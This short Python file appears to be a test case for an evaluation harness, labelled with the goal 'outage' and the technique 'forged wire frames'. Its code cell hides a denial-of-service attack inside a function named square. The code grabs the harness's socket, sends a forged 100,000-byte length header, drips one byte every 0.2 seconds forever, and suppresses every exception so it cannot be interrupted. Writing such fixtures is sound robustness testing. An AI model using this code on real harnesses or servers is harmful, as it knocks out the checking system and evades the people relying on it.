"""An answer that arrives one byte at a time, each in time for somebody who waits anew for every byte."""

GOAL = "outage"
TECHNIQUE = "forged wire frames"
OTTER = "there is no wire"
CELLS = [
    """
import gc, struct, time
S = next(o for o in gc.get_objects() if type(o).__name__ == 'Student')
def square(x):
    S.line.sock.sendall(struct.pack('<I', 100_000))
    while True:
        try:
            S.line.sock.sendall(b'x')
            time.sleep(0.2)
        except BaseException:
            pass
""",
]
